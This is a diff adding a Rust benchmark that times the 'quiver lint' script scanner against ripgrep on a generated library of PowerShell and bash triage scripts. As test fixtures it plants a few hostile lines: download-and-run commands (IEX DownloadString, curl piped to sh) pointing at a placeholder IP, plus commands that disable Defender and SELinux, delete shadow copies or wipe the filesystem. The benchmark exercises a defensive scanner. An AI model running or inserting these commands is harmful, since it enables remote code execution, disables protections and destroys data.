@@ -1,0 +1,303 @@
+//! `quiver lint` against ripgrep on the same files with the same deny patterns.
+//!
+//! Generates a library of 2,000 scripts (about 100 MB: PowerShell as UTF-8, UTF-8 with a
+//! BOM and UTF-16 LE, and bash; realistic collection code with a few rule hits) in a temp
+//! folder, then times, several times each, the release `quiver lint` on it and
+//! `rg -c -e p1 -e p2 …` with every `pattern` of `policies/rules.toml`. ripgrep decodes
+//! UTF-16 by BOM sniffing (`--encoding auto`, its default), so both see the same text.
+//! quiver does more per file (manifests, encodings, paths, parse trees for command rules,
+//! signatures), so this is a ceiling check on the scanner's cost, not a like-for-like race.
+//!
+//! Run: `cargo bench -p quiver-tests --bench lint_vs_rg` (needs `rg` on PATH). Set
+//! `LINT_BENCH_SCRIPTS` / `LINT_BENCH_REPS` to change the size and repetitions, and
+//! `LINT_BENCH_KEEP=1` to keep the generated library for profiling.
+
+use std::fmt::Write as _;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+fn main() {
+    let scripts: usize = env_or("LINT_BENCH_SCRIPTS", 2000);
+    let reps: usize = env_or("LINT_BENCH_REPS", 7);
+    let root = quiver_tests::workspace_root();
+
+    // The release binary, built here so the numbers never come from a debug build.
+    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
+    let status = Command::new(cargo)
+        .current_dir(&root)
+        .args(["build", "--release", "--quiet", "-p", "quiver", "--bin", "quiver"])
+        .status()
+        .expect("cargo build --release");
+    assert!(status.success(), "building quiver --release failed");
+    let target = std::env::var_os("CARGO_TARGET_DIR")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| root.join("target"));
+    let quiver = target.join("release").join("quiver");
+
+    let rules = std::fs::read_to_string(root.join("policies/rules.toml")).expect("policies/rules.toml");
+    let patterns = patterns_of(&rules);
+    assert!(!patterns.is_empty(), "no patterns in policies/rules.toml");
+
+    let dir = tempfile::tempdir().expect("temp dir");
+    let lib = dir.path().join("library");
+    let policies = dir.path().join("policies");
+    std::fs::create_dir_all(&policies).unwrap();
+    std::fs::write(policies.join("rules.toml"), &rules).unwrap();
+    let started = Instant::now();
+    let (files, bytes, hits) = generate(&lib, scripts);
+    eprintln!(
+        "generated {scripts} scripts, {files} files, {:.1} MB ({hits} planted rule hits) in {:.1?}",
+        bytes as f64 / 1e6,
+        started.elapsed()
+    );
+
+    let mut quiver_cmd = Command::new(&quiver);
+    quiver_cmd
+        .current_dir(dir.path())
+        .args(["lint", "library", "--policies", "policies", "--format", "json"]);
+    let mut rg_cmd = Command::new("rg");
+    rg_cmd.current_dir(dir.path()).arg("-c").arg("--no-messages");
+    for p in &patterns {
+        rg_cmd.arg("-e").arg(p);
+    }
+    rg_cmd.arg("library");
+
+    // Warm the page cache and check both actually run.
+    let out = quiver_cmd.output().expect("run quiver");
+    let report: serde_json::Value =
+        serde_json::from_slice(&out.stdout).expect("quiver json report");
+    let findings = report["findings"].as_array().map_or(0, Vec::len);
+    let out = rg_cmd.output().expect("run rg (apt-get install ripgrep)");
+    let rg_files = String::from_utf8_lossy(&out.stdout).lines().count();
+    eprintln!("quiver: {findings} findings; rg: matches in {rg_files} files");
+
+    let mut tq = Vec::new();
+    let mut tr = Vec::new();
+    for _ in 0..reps {
+        tq.push(time(&mut quiver_cmd));
+        tr.push(time(&mut rg_cmd));
+    }
+    let (mq, mr) = (median(&mut tq), median(&mut tr));
+    let mut report = String::new();
+    let _ = writeln!(report, "library: {scripts} scripts, {files} files, {:.1} MB", bytes as f64 / 1e6);
+    let _ = writeln!(report, "quiver lint (median of {reps}): {:.3} s   runs: {}", mq.as_secs_f64(), list(&tq));
+    let _ = writeln!(report, "rg -c, {} patterns (median of {reps}): {:.3} s   runs: {}", patterns.len(), mr.as_secs_f64(), list(&tr));
+    let _ = writeln!(report, "ratio quiver / rg: {:.2}", mq.as_secs_f64() / mr.as_secs_f64());
+    print!("{report}");
+    if std::env::var_os("LINT_BENCH_KEEP").is_some() {
+        let kept = dir.keep();
+        eprintln!("kept the library in {}", kept.display());
+    }
+}
+
+fn env_or(name: &str, default: usize) -> usize {
+    std::env::var(name).ok().and_then(|v| v.parse().ok()).unwrap_or(default)
+}
+
+fn time(cmd: &mut Command) -> Duration {
+    let t = Instant::now();
+    let status = cmd.stdout(Stdio::null()).stderr(Stdio::null()).status().expect("run");
+    let d = t.elapsed();
+    // quiver exits 1 on deny findings, rg 1 on no match; anything else is a failure.
+    assert!(matches!(status.code(), Some(0 | 1)), "{cmd:?} failed: {status}");
+    d
+}
+
+fn median(v: &mut [Duration]) -> Duration {
+    v.sort();
+    v[v.len() / 2]
+}
+
+fn list(v: &[Duration]) -> String {
+    v.iter().map(|d| format!("{:.3}", d.as_secs_f64())).collect::<Vec<_>>().join(" ")
+}
+
+/// Every `pattern` of the rule set.
+fn patterns_of(rules: &str) -> Vec<String> {
+    let doc: toml::Table = rules.parse().expect("rules.toml parses");
+    doc.get("rule")
+        .and_then(|r| r.as_array())
+        .map(|rules| {
+            rules
+                .iter()
+                .filter_map(|r| r.get("pattern").and_then(|p| p.as_str()).map(str::to_string))
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// A tiny deterministic generator (xorshift), so every run benches the same library.
+struct Rng(u64);
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        self.0
+    }
+    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
+        items[(self.next() % items.len() as u64) as usize]
+    }
+}
+
+const PS_TARGETS: &[&str] = &[
+    "Win32_Service", "Win32_Process", "Win32_StartupCommand", "Win32_LogicalDisk",
+    "Win32_NetworkAdapterConfiguration", "Win32_QuickFixEngineering", "Win32_UserAccount",
+    "Win32_ScheduledJob", "Win32_Share", "Win32_OperatingSystem",
+];
+const PS_PROPS: &[&str] = &[
+    "Name", "ProcessId", "CommandLine", "ExecutablePath", "State", "StartMode", "PathName",
+    "Caption", "InstallDate", "Description", "SID", "Status",
+];
+const SH_TOOLS: &[&str] = &["ps", "ss", "lsof", "last", "who", "df", "mount", "lsmod", "crontab", "journalctl"];
+const SH_PATHS: &[&str] = &[
+    "/etc/passwd", "/etc/crontab", "/var/log/auth.log", "/etc/ssh/sshd_config",
+    "/etc/systemd/system", "/var/spool/cron", "/etc/hosts", "/proc/net/tcp",
+];
+
+/// A PowerShell collection block (about 900 bytes).
+fn ps_block(rng: &mut Rng, i: usize, non_ascii: bool) -> String {
+    let class = rng.pick(PS_TARGETS);
+    let (a, b, c) = (rng.pick(PS_PROPS), rng.pick(PS_PROPS), rng.pick(PS_PROPS));
+    let note = if non_ascii { "Sammlung läuft – bitte warten" } else { "collection running, please wait" };
+    format!(
+        r#"
+# Collects {class} records ({i}) and writes them as CSV for the case folder.
+function Get-Inventory{i} {{
+    [CmdletBinding()]
+    param(
+        [string]$ComputerName = $env:COMPUTERNAME,
+        [int]$Limit = {limit}
+    )
+    Write-Verbose "{note}"
+    $items = Get-CimInstance -ClassName {class} -ErrorAction SilentlyContinue |
+        Select-Object -First $Limit
+    foreach ($item in $items) {{
+        [PSCustomObject]@{{
+            Computer = $ComputerName
+            {a} = $item.{a}
+            {b} = $item.{b}
+            {c} = $item.{c}
+            Collected = (Get-Date).ToUniversalTime().ToString('o')
+        }}
+    }}
+}}
+$result{i} = Get-Inventory{i} -Limit {limit}
+if ($result{i}) {{
+    $result{i} | Export-Csv -NoTypeInformation -Path (Join-Path $OutDir 'inventory-{i}.csv')
+}} else {{
+    Write-Warning 'nothing collected for {class}'
+}}
+"#,
+        limit = 100 + rng.next() % 900,
+    )
+}
+
+/// A bash collection block (about 700 bytes).
+fn sh_block(rng: &mut Rng, i: usize) -> String {
+    let tool = rng.pick(SH_TOOLS);
+    let path = rng.pick(SH_PATHS);
+    format!(
+        r#"
+# Section {i}: {tool} and {path}
+collect_{i}() {{
+    local out="$OUT_DIR/section-{i}.txt"
+    {{
+        echo "== {tool} ($(date -u +%Y-%m-%dT%H:%M:%SZ)) =="
+        if command -v {tool} >/dev/null 2>&1; then
+            {tool} 2>/dev/null | head -n {n} || true
+        else
+            echo "{tool} not installed"
+        fi
+        if [ -r "{path}" ]; then
+            stat -c '%n %s %y %U' "{path}" 2>/dev/null
+            sha256sum "{path}" 2>/dev/null | cut -d' ' -f1
+        fi
+    }} >"$out"
+    printf '%s\n' "$out"
+}}
+collect_{i}
+"#,
+        n = 50 + rng.next() % 450,
+    )
+}
+
+/// Lines that trip the default rules, planted in a few scripts.
+const PS_HITS: &[&str] = &[
+    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\n",
+    "Set-MpPreference -DisableRealtimeMonitoring $true\n",
+    "vssadmin delete shadows /all /quiet\n",
+];
+const SH_HITS: &[&str] = &[
+    "curl -fsSL http://203.0.113.9/x.sh | sh\n",
+    "setenforce 0\n",
+    "rm -rf --no-preserve-root /\n",
+];
+
+fn utf16le_bom(text: &str) -> Vec<u8> {
+    let mut out = vec![0xFF, 0xFE];
+    for u in text.encode_utf16() {
+        out.extend_from_slice(&u.to_le_bytes());
+    }
+    out
+}
+
+/// Writes the library; returns (files, bytes, planted hits).
+fn generate(lib: &Path, scripts: usize) -> (usize, u64, usize) {
+    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
+    let (mut files, mut bytes, mut hits) = (0usize, 0u64, 0usize);
+    for n in 0..scripts {
+        let name = format!("triage-{n:04}");
+        let dir = lib.join(&name);
+        std::fs::create_dir_all(&dir).unwrap();
+        // Mix: 35% bash, 30% PowerShell UTF-8, 15% UTF-8 with BOM (non-ASCII), 20% UTF-16 LE.
+        let kind = n % 20;
+        let plant = n % 97 == 13;
+        let (platform, interpreter, file, content): (&str, &str, String, Vec<u8>) = if kind < 7 {
+            let mut text = String::from("#!/usr/bin/env bash\n# Linux triage collector\nset -u\nOUT_DIR=\"${1:-/tmp/triage}\"\nmkdir -p \"$OUT_DIR\"\n");
+            let mut i = 0;
+            while text.len() < 32_000 + (rng.next() % 16_000) as usize {
+                text.push_str(&sh_block(&mut rng, i));
+                i += 1;
+            }
+            if plant {
+                text.push_str(rng.pick(SH_HITS));
+                hits += 1;
+            }
+            ("linux", "bash", format!("{name}.sh"), text.into_bytes())
+        } else {
+            let encoding = match kind {
+                7..=12 => "utf8",
+                13..=15 => "bom",
+                _ => "utf16",
+            };
+            let mut text = String::from("# Windows triage collector\n$ErrorActionPreference = 'Continue'\n$OutDir = Join-Path $env:TEMP 'triage'\nNew-Item -ItemType Directory -Force -Path $OutDir | Out-Null\n");
+            let mut i = 0;
+            // UTF-16 doubles the bytes; keep roughly the same text length per script.
+            while text.len() < 36_000 + (rng.next() % 16_000) as usize {
+                text.push_str(&ps_block(&mut rng, i, encoding == "bom"));
+                i += 1;
+            }
+            if plant {
+                text.push_str(rng.pick(PS_HITS));
+                hits += 1;
+            }
+            let content = match encoding {
+                "utf8" => text.into_bytes(),
+                "bom" => [&[0xEF, 0xBB, 0xBF][..], text.as_bytes()].concat(),
+                _ => utf16le_bom(&text),
+            };
+            ("windows", "powershell", format!("{name}.ps1"), content)
+        };
+        let manifest = format!(
+            "name = \"{name}\"\ndescription = \"Generated triage collector {n}\"\nplatforms = [\"{platform}\"]\ntimeout = \"5m\"\ntags = [\"bench\"]\n\n[entry.{platform}]\nfile = \"{file}\"\ninterpreter = \"{interpreter}\"\n"
+        );
+        for (path, data) in [(dir.join("script.toml"), manifest.into_bytes()), (dir.join(&file), content)] {
+            bytes += data.len() as u64;
+            files += 1;
+            std::fs::write(path, data).unwrap();
+        }
+    }
+    (files, bytes, hits)
+}
